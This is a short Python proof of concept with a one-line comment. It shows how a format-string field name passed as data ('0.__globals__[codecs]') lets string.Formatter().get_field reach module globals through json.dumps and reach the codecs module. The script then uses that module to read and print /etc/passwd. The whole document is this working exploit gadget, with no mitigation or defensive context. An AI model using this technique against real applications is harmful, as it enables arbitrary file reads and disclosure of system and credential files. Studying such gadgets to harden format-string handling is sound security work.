# string.Formatter().get_field walks a field name given as data: json.dumps.__globals__['codecs'].open reads a file
import json
import string

codecs_module, _ = string.Formatter().get_field("0.__globals__[codecs]", (json.dumps,), {})
print(codecs_module.open("/etc/passwd").read())
